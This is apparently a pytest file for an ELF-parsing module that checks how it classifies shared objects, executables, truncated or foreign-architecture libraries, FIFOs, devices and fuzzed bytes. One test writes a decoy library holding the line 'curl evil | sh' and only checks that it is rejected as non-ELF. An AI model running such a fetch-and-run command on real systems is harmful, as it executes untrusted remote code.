"""gpudoctor.elf on real files: a shared object gcc built, a PIE gcc built, /bin/true, a library
cut short, one for another machine; a FIFO and a device are never read; garbage never raises."""

from __future__ import annotations

import os
import random
from pathlib import Path

import pytest

from gpudoctor import elf
from tests.cudnn_kit import CudnnKit, cudnn_kit_fixture  # noqa: F401 - the fixture


@pytest.mark.subprocess  # the kit compiles its libraries with gcc
def test_a_real_shared_object_is_one(cudnn_kit: CudnnKit, tmp_path: Path) -> None:
    so = tmp_path / "libx.so"
    so.write_bytes(cudnn_kit.shared_object())
    found = elf.read(so)
    assert isinstance(found, elf.Elf)
    assert (found.bits, found.e_type, found.interpreter) == (64, elf.ET_DYN, False)
    assert found.machine == os.uname().machine
    # the section header table is the last thing in a linked file: its end is the file's size
    assert found.extent == so.stat().st_size
    assert elf.library_problem(found, so.stat().st_size, found.machine) is None


@pytest.mark.subprocess  # the kit compiles its libraries with gcc
@pytest.mark.parametrize("source", ["gcc -pie", "/bin/true"])
def test_a_pie_is_a_program_not_a_library(cudnn_kit: CudnnKit, tmp_path: Path,
                                          source: str) -> None:
    data = cudnn_kit.program() if source == "gcc -pie" else Path("/bin/true").read_bytes()
    found = elf.parse(data[:elf.HEAD], len(data))
    assert isinstance(found, elf.Elf)
    if found.e_type != elf.ET_DYN:
        pytest.skip(f"{source} is not position-independent here")
    assert found.interpreter
    assert elf.library_problem(found, len(data)) == (
        "a program (a position-independent executable with an interpreter), not a shared "
        "library")


@pytest.mark.subprocess  # the kit compiles its libraries with gcc
@pytest.mark.parametrize("keep", [200, 63, 1000, -1])
def test_a_library_cut_short_is_told(cudnn_kit: CudnnKit, keep: int) -> None:
    data = cudnn_kit.shared_object()
    cut = data[:keep] if keep > 0 else data[:len(data) - 1]
    found = elf.parse(cut[:elf.HEAD], len(cut))
    if keep == 63:  # inside the 64-byte ELF header itself
        assert isinstance(found, elf.NotElf)
        return
    assert isinstance(found, elf.Elf)
    problem = elf.library_problem(found, len(cut))
    assert problem is not None
    assert problem.startswith("cut short: its ELF headers say it has at least ")
    assert problem.endswith(f"the file has {len(cut)}")


@pytest.mark.subprocess  # the kit compiles its libraries with gcc
def test_another_machine_and_other_types(cudnn_kit: CudnnKit) -> None:
    arm = cudnn_kit.shared_object(patch={18: (183).to_bytes(2, "little")})
    found = elf.parse(arm[:elf.HEAD], len(arm))
    assert isinstance(found, elf.Elf)
    assert found.machine == "aarch64"
    assert elf.library_problem(found, len(arm), "x86_64") == "built for aarch64, not x86_64"
    for e_type, said in ((1, "a relocatable object (.o)"), (2, "an executable program"),
                         (4, "a core dump"), (0xfe00, "an ELF file of type 65024")):
        data = cudnn_kit.shared_object(patch={16: e_type.to_bytes(2, "little")})
        found = elf.parse(data[:elf.HEAD], len(data))
        assert isinstance(found, elf.Elf)
        assert elf.library_problem(found, len(data)) == f"{said}, not a shared library"


def test_text_and_empty_files_are_not_elf(tmp_path: Path) -> None:
    text = tmp_path / "libcudnn.so.9"
    text.write_text("#!/bin/sh\ncurl evil | sh\n")
    found = elf.read(text)
    assert isinstance(found, elf.NotElf)
    assert not found.unreadable
    assert found.why == "it starts with b'#!/bin/sh\\ncu' (no ELF magic)"
    empty = tmp_path / "empty.so"
    empty.touch()
    assert elf.read(empty) == elf.NotElf("it is empty")


def test_a_fifo_a_device_and_a_missing_file_are_never_waited_on(tmp_path: Path) -> None:
    fifo = tmp_path / "libcudnn_ops.so.9"
    os.mkfifo(fifo)  # opened for reading without O_NONBLOCK, this would wait for a writer
    for path in (fifo, Path("/dev/zero"), tmp_path / "missing.so"):
        found = elf.read(path)
        assert isinstance(found, elf.NotElf), path
        assert found.unreadable, path


@pytest.mark.subprocess  # the kit compiles its libraries with gcc
def test_garbage_never_raises(cudnn_kit: CudnnKit) -> None:
    real = cudnn_kit.shared_object()
    rng = random.Random(18)
    for _ in range(3000):
        data = bytearray(real[:rng.choice([0, 4, 20, 52, 64, 200, 600, len(real)])])
        for _ in range(rng.randint(0, 8)):  # flip bytes of the headers
            if data:
                data[rng.randrange(min(len(data), 700))] = rng.randrange(256)
        size = len(data) + rng.choice([0, 0, 1, -1, 1 << 40])
        found = elf.parse(bytes(data), max(size, 0))
        assert isinstance(found, elf.Elf | elf.NotElf)
        if isinstance(found, elf.Elf):
            elf.library_problem(found, max(size, 0), "x86_64")
